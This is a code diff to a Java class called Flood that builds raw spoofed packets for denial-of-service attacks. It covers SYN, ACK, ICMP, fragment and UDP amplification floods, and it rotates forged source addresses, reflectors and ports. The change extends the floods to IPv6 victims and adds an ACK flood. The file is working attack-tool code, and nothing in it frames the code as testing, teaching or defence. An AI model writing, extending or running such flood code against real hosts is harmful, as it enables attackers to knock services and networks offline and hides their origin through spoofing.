@@ -18,11 +18,15 @@ final class Flood {
     private static final Address SPOOFED6 = Address.parse("2001:db8:fffe::");
     private static final int REFLECTORS = 200;
     private static final int NONE = -1;
+    /** An IPv6 header is so much longer. */
+    private static final int LONGER6 = 20;
 
     private final ByteBuffer out;
     private final int start;
     private final Random random;
     private Vector vector = Vector.SYN_FLOOD;
+    private boolean v6;
+    private int length;
     private int protocol;
     private int slot;
 
@@ -35,27 +39,38 @@ final class Flood {
     /** Begins another attack. */
     void aim(Vector at, Address victim) {
         vector = at;
-        protocol = at == Vector.SYN_FLOOD ? Frame.TCP : at == Vector.ICMP_FLOOD ? Frame.ICMP : Frame.UDP;
+        v6 = !victim.isV4();
+        protocol = protocol();
+        length = v6 && !at.v6() ? Math.min(Frame.MAX, at.length + LONGER6) : at.length;
         for (int i = 0; i < SLOTS; i++) {
             int offset = start + i * Frame.MAX;
             make(offset, victim);
-            Frame.seal(out, offset, at.length);
+            Frame.seal(out, offset, length);
         }
     }
 
+    private int protocol() {
+        return switch (vector) {
+            case SYN_FLOOD, ACK_FLOOD -> Frame.TCP;
+            case ICMP_FLOOD -> v6 ? Frame.ICMP6 : Frame.ICMP;
+            default -> Frame.UDP;
+        };
+    }
+
     private void make(int at, Address victim) {
-        int payload = Frame.ip(out, at, vector.length, protocol, vector.v6() ? SPOOFED6 : SPOOFED4, victim);
+        int payload = Frame.ip(out, at, length, protocol, v6 ? SPOOFED6 : SPOOFED4, victim);
         switch (vector) {
             case SYN_FLOOD -> Frame.tcp(out, payload, 1024, vector.targetPort, Frame.SYN, 40);
-            case ICMP_FLOOD -> Frame.echo(out, payload, 8, 1);
+            case ACK_FLOOD -> Frame.tcp(out, payload, 1024, vector.targetPort, Frame.ACK, 20);
+            case ICMP_FLOOD -> Frame.echo(out, payload, v6 ? 128 : 8, 1);
                 // more fragments follow, this one starts at byte 1480
             case FRAGMENT_FLOOD -> out.putShort(at + Frame.FRAGMENT4, (short) (0x2000 | 1480 / 8));
-            default -> Frame.udp(out, payload, vector.sourcePort, vector.targetPort, at + vector.length - payload);
+            default -> Frame.udp(out, payload, vector.sourcePort, vector.targetPort, at + length - payload);
         }
     }
 
     int length() {
-        return vector.length;
+        return length;
     }
 
     /** The next packet: another source, other ports; gives where it lies. */
@@ -63,18 +78,16 @@ final class Flood {
         slot = (slot + 1) % SLOTS;
         int at = start + slot * Frame.MAX;
         int draw = random.nextInt();
-        if (vector.v6()) {
-            int checksum = at + Frame.PAYLOAD6 + Frame.checksumOffset(protocol);
-            Frame.patch(out, at + Frame.SOURCE6 + 14, draw, checksum);
-            Frame.patch(out, at + Frame.PAYLOAD6, 1024 + (draw >>> 17), checksum);
-            return at;
+        int payload = at + (v6 ? Frame.PAYLOAD6 : Frame.PAYLOAD4);
+        if (v6) {
+            Frame.patch(out, at + Frame.SOURCE6 + 14, draw, payload + Frame.checksumOffset(protocol));
+        } else {
+            source4(at, vector.amplification() ? 1 + (draw & 0x7fff) % REFLECTORS : draw & 0x1ffff);
+            Frame.patch(out, at + Frame.ID4, draw >>> 16, at + Frame.CHECKSUM4);
         }
-        source4(at, vector.amplification() ? 1 + (draw & 0x7fff) % REFLECTORS : draw & 0x1ffff);
-        Frame.patch(out, at + Frame.ID4, draw >>> 16, at + Frame.CHECKSUM4);
-        int port = port(at);
+        int port = port(payload);
         if (port != NONE) {
-            int checksum = at + Frame.PAYLOAD4 + Frame.checksumOffset(protocol);
-            Frame.patch(out, port, 1024 + (draw >>> 17), checksum);
+            Frame.patch(out, port, 1024 + (draw >>> 17), payload + Frame.checksumOffset(protocol));
         }
         return at;
     }
@@ -95,11 +108,10 @@ final class Flood {
     }
 
     /** The port that varies: the victim's in an amplification, the source's in other floods. */
-    private int port(int at) {
+    private int port(int payload) {
         return switch (vector) {
             case ICMP_FLOOD, FRAGMENT_FLOOD -> NONE;
-            case SYN_FLOOD -> at + Frame.PAYLOAD4;
-            default -> at + Frame.PAYLOAD4 + 2;
+            default -> vector.amplification() ? payload + 2 : payload;
         };
     }
 }
